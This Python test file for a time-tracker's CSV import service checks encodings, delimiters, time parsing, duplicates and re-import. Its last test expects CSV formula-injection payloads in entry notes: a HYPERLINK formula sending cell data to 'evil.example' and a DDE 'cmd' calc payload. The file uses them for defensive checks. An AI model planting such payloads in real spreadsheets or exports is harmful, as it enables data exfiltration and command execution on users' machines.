"""The failure cases under ../shared/cases: each expected.md's exact values, through the
import service and its Celery task (in-process)."""

from datetime import UTC, datetime

from conftest import CASES_DIR, make_user
from imports.models import DataImport
from imports.tests.factories import import_file, preview_file
from timetracker.models import TimeEntry


def utc(text: str) -> datetime:
    return datetime.fromisoformat(text).astimezone(UTC)


def entry_rows(user):
    return [
        (
            e.start,
            e.end,
            e.duration_seconds,
            e.project.client.name if e.project.client_id else None,
            e.project.name,
            e.task.name if e.task_id else None,
            e.notes,
            sorted(t.name for t in e.tags.all()),
            e.billable,
        )
        for e in TimeEntry.objects.filter(owner=user).order_by("start", "id")
    ]


def test_01_utf8_bom_and_crlf_toggl_header(alice):
    preview = preview_file(alice, CASES_DIR / "01_utf8_bom_toggl_header.csv", timezone="Europe/Berlin")
    assert (preview.format_name, preview.encoding, preview.columns[0]) == ("toggl", "utf-8-sig", "User")
    assert preview.ignored_columns == []
    data_import = import_file(alice, CASES_DIR / "01_utf8_bom_toggl_header.csv", timezone="Europe/Berlin")
    assert (data_import.status, data_import.created_records, data_import.failed_records) == ("completed", 2, 0)
    assert entry_rows(alice) == [
        (utc("2024-03-04T08:00:00Z"), utc("2024-03-04T09:30:00Z"), 5400, "Acme GmbH", "Website", None,
         "Homepage draft", ["design"], True),
        (utc("2024-03-04T09:30:00Z"), utc("2024-03-04T09:45:00Z"), 900, None, "Internal", None, "Standup", [], False),
    ]


def test_02_semicolon_delimiter_with_decimal_comma(alice):
    preview = preview_file(alice, CASES_DIR / "02_semicolon_decimal_comma_harvest.csv", timezone="UTC")
    assert (preview.format_name, preview.delimiter, preview.errors) == ("harvest", ";", [])
    import_file(alice, CASES_DIR / "02_semicolon_decimal_comma_harvest.csv", timezone="UTC")
    rows = entry_rows(alice)
    # Duration-only rows start at local midnight of their date (documented convention).
    assert [(r[0], r[2], r[3], r[4], r[5], r[6]) for r in rows] == [
        (utc("2024-03-04T00:00:00Z"), 5400, "Müller & Söhne", "Relaunch", "Design", "Entwurf; Variante B"),
        (utc("2024-03-05T00:00:00Z"), 900, "Müller & Söhne", "Relaunch", "Design", "Abstimmung"),
        (utc("2024-03-06T00:00:00Z"), 25200, "Müller & Söhne", "Relaunch", "Development", "Umsetzung"),
    ]
    assert sum(r[2] for r in rows) == 31500  # 8.75 h


def test_04_twelve_hour_clock_edges(alice):
    preview = preview_file(alice, CASES_DIR / "04_twelve_hour_am_pm_times.csv", timezone="America/New_York")
    assert (preview.format_name, preview.date_order, preview.date_order_detected) == ("clockify", "MDY", True)
    import_file(alice, CASES_DIR / "04_twelve_hour_am_pm_times.csv", timezone="America/New_York")
    assert [(r[6], r[0], r[1], r[2]) for r in entry_rows(alice)] == [
        ("Night deploy", utc("2024-01-15T05:30:00Z"), utc("2024-01-15T06:00:00Z"), 1800),
        ("Lunch-time call", utc("2024-01-15T16:50:00Z"), utc("2024-01-15T17:15:00Z"), 1500),
        ("Late fix", utc("2024-01-16T04:45:00Z"), utc("2024-01-16T05:10:00Z"), 1500),
        ("Standup", utc("2024-01-16T14:05:00Z"), utc("2024-01-16T14:35:00Z"), 1800),
    ]


def test_04_misread_noon_is_caught_by_the_duration_column(alice):
    # 12:15 AM instead of PM: end before start, a row error naming the cell.
    data = (CASES_DIR / "04_twelve_hour_am_pm_times.csv").read_bytes().replace(b'"12:15 PM"', b'"12:15 AM"')
    data_import = import_file(alice, data, timezone="America/New_York")
    assert data_import.status == "failed"
    assert data_import.status_message == "Nothing was imported: 1 of 4 rows are invalid."
    assert data_import.row_errors == [
        {"line": 3, "column": "End Time", "value": "12:15 AM", "message": "End (2024-01-15 00:15) is before start (2024-01-15 11:50)"}
    ]
    assert TimeEntry.objects.count() == 0


def test_05_toggl_duration_variants_are_only_a_cross_check(alice):
    import_file(alice, CASES_DIR / "05_toggl_duration_column_variants.csv", timezone="Europe/Berlin")
    assert [(r[6], r[0], r[1], r[2], r[7]) for r in entry_rows(alice)] == [
        ("Update healthchecks", utc("2026-08-21T17:21:21Z"), utc("2026-08-21T17:39:46Z"), 1105, ["Maintenance"]),
        ("Release notes", utc("2026-08-21T18:00:00Z"), utc("2026-08-21T19:02:03Z"), 3723, ["Docs", "Maintenance"]),
    ]


def test_07_entry_crossing_midnight_and_end_before_start(alice):
    preview = preview_file(alice, CASES_DIR / "07_entry_crossing_midnight.csv", timezone="Europe/Berlin")
    assert [str(e) for e in preview.errors] == [
        'line 3, column "End time", value "01:00:00": End (2020-07-03 01:00) is before start (2020-07-03 23:30)'
    ]
    # The valid row would be created only with skip_invalid; the preview says this import writes nothing.
    assert (preview.would_create, preview.will_import, preview.not_imported_reason) == (
        1, False, "1 of 2 rows are invalid.",
    )
    skipping = preview_file(alice, CASES_DIR / "07_entry_crossing_midnight.csv", timezone="Europe/Berlin",
                            skip_invalid=True)
    assert (skipping.would_create, skipping.will_import, skipping.not_imported_reason) == (1, True, "")
    failed = import_file(alice, CASES_DIR / "07_entry_crossing_midnight.csv", timezone="Europe/Berlin")
    assert (failed.status, failed.status_message, TimeEntry.objects.count()) == (
        "failed", "Nothing was imported: 1 of 2 rows are invalid.", 0,
    )
    partial = import_file(alice, CASES_DIR / "07_entry_crossing_midnight.csv", timezone="Europe/Berlin", skip_invalid=True)
    assert (partial.status, partial.created_records, partial.failed_records, partial.skipped_records) == (
        "completed_with_errors", 1, 1, 1,
    )
    assert [(r[0], r[1], r[2]) for r in entry_rows(alice)] == [
        (utc("2020-07-02T20:00:00Z"), utc("2020-07-02T22:45:00Z"), 9900)
    ]


def test_11_identical_rows_kept_and_reimport_creates_nothing(alice):
    preview = preview_file(alice, CASES_DIR / "11_reimport_duplicates_toggl.csv", timezone="UTC")
    assert "2 identical rows: lines 2 and 5 (all are imported)" in preview.warnings
    first = import_file(alice, CASES_DIR / "11_reimport_duplicates_toggl.csv", timezone="UTC")
    assert (first.created_records, first.unchanged_records) == (4, 0)
    assert sum(e.duration_seconds for e in TimeEntry.objects.filter(owner=alice)) == 8760
    assert sorted(tuple(r[7]) for r in entry_rows(alice)) == [("Communication",), ("Communication",), ("Development",), ("Review",)]
    second = import_file(alice, CASES_DIR / "11_reimport_duplicates_toggl.csv", timezone="UTC")
    assert (second.created_records, second.updated_records, second.unchanged_records) == (0, 0, 4)
    assert TimeEntry.objects.filter(owner=alice).count() == 4


def test_11_edited_description_is_flagged_as_possible_update(alice):
    import_file(alice, CASES_DIR / "11_reimport_duplicates_toggl.csv", timezone="UTC")
    original = TimeEntry.objects.get(notes="Pairing", tags__name="Review")
    edited = (CASES_DIR / "11_reimport_duplicates_toggl.csv").read_bytes().replace(b"Pairing,Yes", b"Pair review,Yes", 1)
    preview = preview_file(alice, edited, timezone="UTC")
    assert (preview.would_create, preview.unchanged) == (1, 3)
    assert any(w.startswith("line 3: same start and end as existing entry #") for w in preview.warnings)
    assert original.pk  # the near copy is reported, not silently merged


def test_12_blank_lines_and_preamble(alice):
    preview = preview_file(alice, CASES_DIR / "12_blank_rows_and_preamble.csv", timezone="UTC")
    assert preview.warnings == ["6 blank lines ignored (lines 1, 4, 6, 7, 8, 9)"]
    assert (preview.total_rows, [r["line"] for r in preview.sample_rows]) == (2, [3, 5])
    data_import = import_file(alice, CASES_DIR / "12_blank_rows_and_preamble.csv", timezone="UTC")
    assert (data_import.created_records, data_import.failed_records, data_import.row_errors) == (2, 0, [])
    assert data_import.summary["blank_lines"] == [1, 4, 6, 7, 8, 9]
    assert [(r[2], r[3], r[4], r[5], r[6]) for r in entry_rows(alice)] == [
        (7200, "Acme", "Web", "Dev", "Morning"),
        (11700, "Acme", "Web", "Dev", "Afternoon"),
    ]


def test_12_row_with_some_cells_is_not_blank(alice):
    data = (CASES_DIR / "12_blank_rows_and_preamble.csv").read_bytes().replace(b",,,,,,,\n   ", b",,,Dev,,,,\n   ", 1)
    data_import = import_file(alice, data, timezone="UTC")
    assert data_import.status == "failed"
    assert data_import.row_errors == [
        {"line": 6, "column": "Project", "value": "", "message": "a project is required"},
        {"line": 6, "column": "Date", "value": "", "message": "a start is required"},
    ]


def test_19_cp1252_file_is_decoded_not_mangled(alice):
    preview = preview_file(alice, CASES_DIR / "19_cp1252_excel_western.csv", timezone="UTC")
    assert preview.encoding == "cp1252"
    import_file(alice, CASES_DIR / "19_cp1252_excel_western.csv", timezone="UTC")
    assert [(r[3], r[4], r[5], r[6], r[2]) for r in entry_rows(alice)] == [
        ("Müller & Söhne", "Café Relaunch", "Design", "Logo – Entwurf für 500 €", 5400),
        ("Société Générale Démo", "Façade", "Design", "Réunion à 9h", 1800),
    ]


def test_21_reimport_of_own_export_changes_nothing(alice):
    first = import_file(alice, CASES_DIR / "21_reimport_own_export_unchanged.csv")  # profile: Europe/Berlin
    assert first.created_records == 2
    rows = entry_rows(alice)
    assert [(r[0], r[1], r[6], r[8]) for r in rows] == [
        (utc("2024-11-19T11:54:31.837623Z"), utc("2024-11-19T12:54:31.412Z"), "Planning", True),
        (utc("2024-11-19T13:00:00Z"), utc("2024-11-19T13:30:00Z"), "", False),
    ]
    entries = list(TimeEntry.objects.filter(owner=alice).order_by("start"))
    # Our export layout, at second precision (as a spreadsheet round trip leaves it).
    export = "id,user_email,project_name,client_name,task_name,start_time,end_time,duration_hours,notes,tags,billable\n" + "".join(
        f"{e.pk},alice@example.com,Website,Acme,,{e.start.replace(microsecond=0).isoformat()},"
        f"{e.end.replace(microsecond=0).isoformat()},{e.duration_hours},{e.notes},,{'true' if e.billable else 'false'}\n"
        for e in entries
    )
    again = import_file(alice, export.encode())
    assert (again.created_records, again.updated_records, again.unchanged_records) == (0, 0, 2)
    assert TimeEntry.objects.get(pk=entries[0].pk).start.microsecond == 837623
    assert [e.updated_at for e in TimeEntry.objects.filter(owner=alice).order_by("start")] == [e.updated_at for e in entries]

    second_account = make_user("erin")
    into_other = import_file(second_account, export.encode())
    assert (into_other.created_records, into_other.unchanged_records) == (2, 0)
    assert [(r[0], r[1], r[3], r[4], r[6], r[7], r[8]) for r in entry_rows(second_account)] == [
        (utc("2024-11-19T11:54:31Z"), utc("2024-11-19T12:54:31Z"), "Acme", "Website", "Planning", [], True),
        (utc("2024-11-19T13:00:00Z"), utc("2024-11-19T13:30:00Z"), "Acme", "Website", "", [], False),
    ]
    repeat = import_file(second_account, export.encode())
    assert (repeat.created_records, repeat.unchanged_records) == (0, 2)
    assert TimeEntry.objects.filter(owner=alice).count() == 2


def test_21_invalid_row_reported_even_when_otherwise_unchanged(alice):
    import_file(alice, CASES_DIR / "21_reimport_own_export_unchanged.csv")
    broken = (CASES_DIR / "21_reimport_own_export_unchanged.csv").read_bytes().replace(
        b"2024-11-19 14:30:00", b"2024-11-19 13:30:00"
    )
    data_import = import_file(alice, broken)
    assert data_import.status == DataImport.Status.FAILED
    assert data_import.row_errors == [
        {"line": 3, "column": "end_time", "value": "2024-11-19 13:30:00",
         "message": "End (2024-11-19 13:30) is before start (2024-11-19 14:00)"}
    ]


def test_13_own_export_quote_is_stripped_only_before_formula_characters(alice):
    data = (CASES_DIR / "13_csv_formula_injection_export.expected_output.csv").read_bytes()
    data_import = import_file(alice, data, timezone="UTC")
    assert (data_import.status, data_import.created_records) == ("completed", 7)
    entries = TimeEntry.objects.filter(owner=alice).order_by("start")
    assert [e.notes for e in entries] == [
        '=HYPERLINK("https://evil.example/?d="&A1,"Click for invoice")',
        "Meeting",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-15 min discount (legit text)",
        'Plain text, with comma and "quotes"',
    ]
    assert entries[1].project.name == "+SUM(1+1)"
    assert [t.name for t in entries[1].tags.all()] == ["@admin"]
